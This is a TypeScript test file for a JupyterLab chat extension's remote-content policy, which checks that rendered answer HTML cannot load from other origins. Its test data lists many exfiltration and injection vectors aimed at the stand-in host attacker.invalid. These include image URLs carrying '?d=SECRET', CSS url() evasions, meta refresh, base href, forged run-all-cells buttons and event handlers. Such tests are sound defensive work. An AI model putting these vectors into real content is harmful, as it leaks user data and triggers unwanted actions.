/*
 * The remote content policy on the HTML of an answer: after JupyterLab's sanitizer and this
 * rewrite, nothing left can load from another origin; remote images wait behind a button.
 */
import { Sanitizer } from '@jupyterlab/apputils';
import { nullTranslator } from '@jupyterlab/translation';
import { RemoteContent } from '../remote';

const PAGE = 'http://localhost:8888';
const options: RemoteContent.IOptions = { origin: PAGE, base: `${PAGE}/lab/tree/nb.ipynb` };
const EVIL = 'http://attacker.invalid';
const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
const trans = nullTranslator.load('jupyterlab_claude');

/** JupyterLab's sanitizer (what `trusted: false` applies), then the policy. */
const sanitizer = RemoteContent.wrapSanitizer(new Sanitizer(), () => options);

function render(html: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = sanitizer.sanitize(html);
  return host;
}

/** Every attribute value in the rendered HTML that names the attacker's host as a URL. */
function remote(host: HTMLElement): string[] {
  return Array.from(host.querySelectorAll('*')).flatMap(el =>
    Array.from(el.attributes)
      .filter(a => /attacker\.invalid\//i.test(a.value))
      .filter(a => !(el.localName === 'a' && a.name === 'href'))
      // Text for people, not addresses for the browser.
      .filter(a => !['title', 'alt', 'aria-label'].includes(a.name))
      .filter(a => a.name !== 'data-claude-remote-src')
      .map(a => `${el.localName}.${a.name}`)
  );
}

/** Vectors that must leave nothing remote behind (and no placeholder: they are not images). */
const REMOVED: [string, string][] = [
  ['an image known by its srcset only', `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">`],
  ['<img srcset> next to a local src', `<img src="/files/a.png" srcset="${EVIL}/a.png 2x">`],
  ['<picture><source srcset>', `<picture><source srcset="${EVIL}/a.png"><img src="${PIXEL}" alt="p"></picture>`],
  ['<video src autoplay>', `<video src="${EVIL}/a.mp4" autoplay muted></video>`],
  ['<video poster>', `<video poster="${EVIL}/a.png" controls></video>`],
  ['<audio src autoplay>', `<audio src="${EVIL}/a.mp3" autoplay></audio>`],
  ['<source src> and <track src>', `<video><source src="${EVIL}/a.mp4"><track src="${EVIL}/a.vtt" default></video>`],
  ['<input type=image src>', `<input type="image" src="${EVIL}/a.png">`],
  ['style background-image', `<div style="background-image:url(${EVIL}/a.png)">x</div>`],
  ['style background shorthand, quoted', `<span style="background: url('${EVIL}/a.png') no-repeat">x</span>`],
  ['style list-style-image', `<ul style="list-style-image:url(${EVIL}/a.png)"><li>x</li></ul>`],
  ['style cursor', `<span style="cursor:url(${EVIL}/a.png), auto">x</span>`],
  ['a CSS-escaped url()', `<div style="background-image:u\\72l(${EVIL}/a.png)">x</div>`],
  ['a commented url()', `<div style="background-image:url/**/(${EVIL}/a.png)">x</div>`],
  ['image-set()', `<div style="background-image:image-set('${EVIL}/a.png' 1x)">x</div>`],
  ['a custom property holding a url', `<div style="--x:url(${EVIL}/a.png); background:var(--x)">x</div>`],
  ['<style> with @import', `<style>@import url(${EVIL}/a.css); p{background:url(${EVIL}/b.png)}</style>`],
  ['<link rel=stylesheet>', `<link rel="stylesheet" href="${EVIL}/a.css">`],
  ['<link rel=prefetch>', `<link rel="prefetch" href="${EVIL}/a">`],
  ['<object data>', `<object data="${EVIL}/a.bin"></object>`],
  ['<embed src>', `<embed src="${EVIL}/a.bin">`],
  ['<iframe src>', `<iframe src="${EVIL}/a.html"></iframe>`],
  ['SVG <image href>', `<svg><image href="${EVIL}/a.png"/></svg>`],
  ['SVG <image xlink:href>', `<svg><image xlink:href="${EVIL}/a.png"/></svg>`],
  ['SVG <use href>', `<svg><use href="${EVIL}/a.svg#x"/></svg>`],
  ['SVG fill=url()', `<svg><rect fill="url(${EVIL}/a.svg#p)"/></svg>`],
  ['SVG <set> animating href', `<svg><image><set attributeName="href" to="${EVIL}/a.png"/></image></svg>`],
  ['<a ping>', `<a href="${EVIL}/page" ping="${EVIL}/ping">link</a>`],
  [
    'background= on a table and a cell',
    `<table background="${EVIL}/a.png"><tr><td background="${EVIL}/b.png">x</td></tr></table>`
  ],
  ['<base href>', `<base href="${EVIL}/"><img src="rel.png" alt="r">`],
  ['<meta http-equiv=refresh>', `<meta http-equiv="refresh" content="0;url=${EVIL}/a">`],
  [
    '<noscript> that reparses differently in the page',
    `<noscript><p title="</noscript><img src=${EVIL}/a.png>"></p></noscript>`
  ],
  [
    '<form action> and <button formaction>',
    `<form action="${EVIL}/a"><button formaction="${EVIL}/b">go</button></form>`
  ]
];

describe('RemoteContent.classify', () => {
  it('tells this server, raster data images and everything else apart, as the browser parses', () => {
    expect(RemoteContent.classify('/files/plot.png', options)).toBe('local');
    expect(RemoteContent.classify('plot.png', options)).toBe('local');
    expect(RemoteContent.classify(`${PAGE}/files/plot.png`, options)).toBe('local');
    expect(RemoteContent.classify('#section', options)).toBe('local');
    expect(RemoteContent.classify(PIXEL, options)).toBe('image-data');
    expect(RemoteContent.classify('data:image/webp;base64,AAAA', options)).toBe('image-data');
    for (const url of [
      `${EVIL}/x.png`,
      'https://attacker.invalid/x.png',
      '//attacker.invalid/x.png',
      '/\\attacker.invalid/x.png',
      '  \thttp://attacker.invalid/x.png',
      'http://localhost:9999/x.png',
      'https://localhost:8888/x.png',
      'http://127.0.0.1:8888/x.png',
      'data:image/svg+xml,<svg/>',
      'data:text/html,<b>x</b>',
      'javascript:alert(1)',
      'blob:http://attacker.invalid/1',
      'ftp://attacker.invalid/x',
      'http://[::1'
    ]) {
      expect([url, RemoteContent.classify(url, options)]).toEqual([url, 'remote']);
    }
  });
});

describe('an answer rendered through the sanitizer and the policy', () => {
  it.each([
    ['a Markdown-style <img src>', `<img src="${EVIL}/a.png?d=SECRET" alt="chart">`],
    ['an upper-case, unquoted IMG SRC', `<IMG SRC=${EVIL}/a.png>`],
    ['a protocol-relative src', '<img src="//attacker.invalid/a.png">'],
    ['a backslash src', '<img src="/\\attacker.invalid/a.png">'],
    ['a src with spaces around', `<img src="  ${EVIL}/a.png  ">`],
    ['an https src, lazy', '<img src="https://attacker.invalid/a.png" loading="lazy">']
  ])('turns %s into a placeholder naming the host', (_, html) => {
    const host = render(html);
    expect(host.querySelector('img')).toBeNull();
    const holder = host.querySelector(`.${RemoteContent.PLACEHOLDER_CLASS}`)!;
    expect(holder).not.toBeNull();
    expect(holder.textContent).toContain('attacker.invalid');
    expect(holder.getAttribute('data-claude-remote-src')).toMatch(/^https?:\/\/attacker\.invalid\/a\.png/);
    expect(remote(host)).toEqual([]);
  });

  it.each(REMOVED)('leaves nothing remote of %s', (_, html) => {
    const host = render(html);
    expect(remote(host)).toEqual([]);
    expect(host.querySelectorAll('style, link, meta, base, iframe, object, embed, noscript, set').length).toBe(0);
    expect(host.querySelector(`.${RemoteContent.PLACEHOLDER_CLASS}`)).toBeNull();
  });

  it('keeps what loads from this server or from the answer itself', () => {
    const host = render(
      `<img src="${PIXEL}" alt="pixel"> <img src="/files/plot.png" alt="local">` +
        '<span style="color: red; font-weight: bold">styled</span>' +
        '<svg><defs><linearGradient id="g"></linearGradient></defs><rect fill="url(#g)"/></svg>'
    );
    const images = Array.from(host.querySelectorAll('img')).map(img => img.getAttribute('src'));
    expect(images).toEqual([PIXEL, '/files/plot.png']);
    expect(host.querySelector('span')!.getAttribute('style')).toBe('color:red;font-weight:bold');
    expect(host.querySelector('rect')?.getAttribute('fill') ?? 'url(#g)').toBe('url(#g)');
  });

  it('keeps the harmless declarations of a style that also fetches', () => {
    const host = render(`<span style="color: red; background: url('${EVIL}/a.png') no-repeat">x</span>`);
    expect(host.querySelector('span')!.getAttribute('style')).toBe('color:red');
    // Without JupyterLab's normalisation first, too.
    const raw = RemoteContent.rewrite(
      `<span style="color: red; background: u\\72l(${EVIL}/a.png); margin: 0">x</span>`,
      options
    );
    expect(raw).toBe('<span style="color: red; margin: 0">x</span>');
  });

  it('makes a placeholder of an image known by its srcset only, should a sanitizer keep srcset', () => {
    const host = document.createElement('div');
    host.innerHTML = RemoteContent.rewrite(`<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x" alt="s">`, options);
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector(`.${RemoteContent.PLACEHOLDER_CLASS}`)!.getAttribute('data-claude-remote-src')).toBe(
      `${EVIL}/a.png`
    );
  });

  it('offers to load only web addresses: a javascript: or blob: image just goes', () => {
    for (const src of [
      'javascript:window.x=1',
      'blob:http://attacker.invalid/1',
      'data:text/html,x',
      'ftp://attacker.invalid/a.png'
    ]) {
      const host = render(`<img src="${src}" alt="x">`);
      expect([src, host.querySelector(`.${RemoteContent.PLACEHOLDER_CLASS}`), host.querySelector('img[src]')]).toEqual([
        src,
        null,
        null
      ]);
    }
  });

  it('opens links in a new tab without referrer or ping', () => {
    const host = render(`<a href="${EVIL}/page?d=SECRET" ping="${EVIL}/p">link</a>`);
    const link = host.querySelector('a')!;
    expect(link.getAttribute('href')).toBe(`${EVIL}/page?d=SECRET`);
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.hasAttribute('ping')).toBe(false);
  });

  it('does not let an answer forge a placeholder or the panel buttons', () => {
    const host = render(
      `<span class="jp-Claude-remoteImage" data-claude-remote="guess" data-claude-remote-src="${EVIL}/a.png">x</span>` +
        '<button class="jp-Claude-copyButton" data-commandlinker-command="notebook:run-all-cells">run</button>'
    );
    RemoteContent.activate(host, trans);
    expect(host.querySelector('.jp-Claude-remoteImage, .jp-Claude-copyButton, .jp-Claude-loadImage')).toBeNull();
    expect(host.querySelector('[data-claude-remote-src], [data-commandlinker-command]')).toBeNull();
  });

  it('is stable: what the page parses is what was checked', () => {
    const once = sanitizer.sanitize(`<img src="${EVIL}/a.png" alt="a"> text <b>bold</b>`);
    expect(RemoteContent.rewrite(once, options)).toBe(once);
  });
});

describe('the policy on its own (should a sanitizer let more through)', () => {
  it.each(REMOVED)('leaves nothing remote of %s', (_, html) => {
    const host = document.createElement('div');
    host.innerHTML = RemoteContent.rewrite(html, options);
    expect(remote(host)).toEqual([]);
    expect(
      host.querySelectorAll('style, link, meta, base, iframe, object, embed, noscript, set, form[action]').length
    ).toBe(0);
  });
});

describe('HTML with nothing to rewrite', () => {
  it('is returned as it is when its tags have no attribute a pass would change and none is removed', () => {
    for (const html of [
      '<p>a <strong>b</strong> <em>c</em><br /></p>',
      '<ul><li>1 &lt; 2</li></ul>',
      'text',
      '<pre><code class="language-python"><span class="ͼb">import</span> x</code></pre>',
      '<table><thead><tr><th align="right">m</th></tr></thead></table><ol start="3"><li title="a &quot;b&quot;">c</li></ol>'
    ]) {
      expect(RemoteContent.rewrite(html, options)).toBe(html);
    }
  });

  // Each is one attribute, comment or removed element away from plain: none may be let through.
  it.each([
    ['an event handler', '<p onclick="x()">a</p>', (h: HTMLElement) => !h.querySelector('[onclick]')],
    [
      'an unquoted handler after a slash',
      '<p/onmouseover=x()>a</p>',
      (h: HTMLElement) => !h.querySelector('[onmouseover]')
    ],
    ['a script', '<p>a</p><script>x()</script>', (h: HTMLElement) => !h.querySelector('script')],
    ['an upper-case style', '<p>a</p><STYLE>*{}</STYLE>', (h: HTMLElement) => !h.querySelector('style')],
    ['a style in SVG', '<svg><style>*{}</style></svg>', (h: HTMLElement) => !h.querySelector('style')],
    ['a template', '<template><img src=x></template>', (h: HTMLElement) => !h.querySelector('template')],
    ['a remote image', `<p><img src="${EVIL}/a.png"></p>`, (h: HTMLElement) => !h.querySelector('img')],
    ['a panel class', '<p class="jp-Claude-copyButton">a</p>', (h: HTMLElement) => !h.querySelector('[class]')],
    [
      'a class list a pass writes back otherwise',
      '<p class="a  b">a</p>',
      (h: HTMLElement) => h.querySelector('p')!.className === 'a b'
    ],
    [
      'a panel class among others',
      '<p class="x jp-claude-loadImage">a</p>',
      (h: HTMLElement) => h.querySelector('p')!.className === 'x'
    ],
    [
      'SVG',
      '<svg><rect class="a" fill="url(http://attacker.invalid/x)"></rect></svg>',
      (h: HTMLElement) => !h.querySelector('[fill]')
    ],
    [
      'a kept attribute beside a handler',
      '<p id="a" onclick="x()">a</p>',
      (h: HTMLElement) => !h.querySelector('[onclick]')
    ],
    ['a single-quoted handler', "<p title='a' onclick='x()'>a</p>", (h: HTMLElement) => !h.querySelector('[onclick]')],
    [
      'a placeholder attribute',
      '<p data-claude-remote="x">a</p>',
      (h: HTMLElement) => !h.querySelector('[data-claude-remote]')
    ]
  ])('is rewritten when it has %s', (_, html, clean) => {
    const host = document.createElement('div');
    host.innerHTML = RemoteContent.rewrite(html, options);
    expect(clean(host)).toBe(true);
  });

  it('parses to the DOM a full pass gives', () => {
    // The same text with an attribute somewhere takes the full pass; its plain part matches.
    const plain =
      '<h3>T</h3><p>a &amp; b <code>x &lt; y</code></p><ol><li>one<ul><li>two</li></ul></li></ol>' +
      '<pre><code class="language-python"><span class="ͼb">for</span> i</code></pre><table><tr><td align="right">1</td></tr></table>';
    const full = RemoteContent.rewrite(`${plain}<p title="t">z</p>`, options);
    const host = document.createElement('div');
    host.innerHTML = RemoteContent.rewrite(plain, options);
    const checked = document.createElement('div');
    checked.innerHTML = full;
    checked.lastElementChild!.remove();
    expect(host.innerHTML).toBe(checked.innerHTML);
  });
});

describe('RemoteContent.activate', () => {
  it('loads one image on its button, without a referrer, and only that one', () => {
    const host = render(`<img src="${EVIL}/one.png" alt="one"><img src="${EVIL}/two.png" alt="two">`);
    document.body.appendChild(host);
    const approved = new Set<string>();
    RemoteContent.activate(host, trans, approved);
    const buttons = host.querySelectorAll<HTMLButtonElement>('button.jp-Claude-loadImage');
    expect(Array.from(buttons, b => b.textContent)).toEqual(['Load image', 'Load image']);
    buttons[0].click();
    const images = host.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0].getAttribute('src')).toBe(`${EVIL}/one.png`);
    expect(images[0].getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(images[0].alt).toBe('one');
    expect(host.querySelectorAll(`.${RemoteContent.PLACEHOLDER_CLASS}`)).toHaveLength(1);
    expect(approved).toEqual(new Set([`${EVIL}/one.png`]));

    // The same answer re-rendered (streaming) keeps the approved image and only it.
    const again = render(`<img src="${EVIL}/one.png" alt="one"><img src="${EVIL}/two.png" alt="two">`);
    RemoteContent.activate(again, trans, approved);
    expect(Array.from(again.querySelectorAll('img'), i => i.getAttribute('src'))).toEqual([`${EVIL}/one.png`]);
    host.remove();
  });
});
